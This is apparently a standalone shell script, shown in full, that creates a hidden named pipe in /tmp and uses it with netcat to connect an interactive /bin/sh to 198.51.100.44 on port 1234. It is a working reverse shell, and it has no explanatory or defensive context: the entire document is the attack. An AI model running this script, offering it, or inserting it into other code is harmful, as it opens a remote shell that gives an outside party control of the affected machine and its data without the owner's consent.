#!/bin/sh
P=/tmp/.p
rm -f $P
mkfifo $P
cat $P | /bin/sh -i 2>&1 | nc 198.51.100.44 1234 > $P
